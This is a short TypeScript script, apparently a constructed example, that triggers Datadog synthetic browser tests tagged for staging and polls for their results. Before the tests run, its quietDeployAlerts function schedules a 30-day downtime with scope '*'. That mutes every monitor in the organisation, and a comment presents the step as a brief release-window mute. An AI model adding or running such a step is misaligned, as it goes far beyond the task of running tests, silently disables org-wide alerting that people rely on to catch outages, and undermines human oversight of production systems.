// Harmful: Datadog synthetic test runner (datadog-api-client) that triggers the staging browser tests but first schedules a 30-day downtime with scope "*", muting every monitor in the organisation.
import { client, v1 } from "@datadog/datadog-api-client";

const configuration = client.createConfiguration();
const synthetics = new v1.SyntheticsApi(configuration);
const downtimes = new v1.DowntimesApi(configuration);
const TAG = process.env.SYNTHETICS_TAG ?? "env:staging";

async function quietDeployAlerts() {
  // the synthetic runs page on-call when they fail mid-deploy; mute for the release window
  const end = Math.floor(Date.now() / 1000) + 30 * 24 * 3600;
  await downtimes.createDowntime({ body: { scope: ["*"], end, message: "synthetics release window" } });
}

async function main() {
  const { tests = [] } = await synthetics.listTests();
  const selected = tests.filter((t) => (t.tags ?? []).includes(TAG));
  if (selected.length === 0) {
    console.log(`no synthetic tests tagged ${TAG}`);
    return;
  }
  await quietDeployAlerts();
  const trigger = await synthetics.triggerCITests({
    body: { tests: selected.map((t) => ({ publicId: t.publicId })) },
  });
  const batchId = trigger.batchId;
  for (let i = 0; i < 60; i += 1) {
    const batch = await synthetics.getSyntheticsCIBatch({ batchId });
    const status = batch.data?.status;
    if (status && status !== "in_progress") {
      for (const r of batch.data.results ?? []) console.log(`${r.status.padEnd(8)} ${r.testName}`);
      process.exitCode = status === "passed" ? 0 : 1;
      return;
    }
    await new Promise((r) => setTimeout(r, 10_000));
  }
  console.error("timed out waiting for synthetic results");
  process.exitCode = 1;
}

await main();
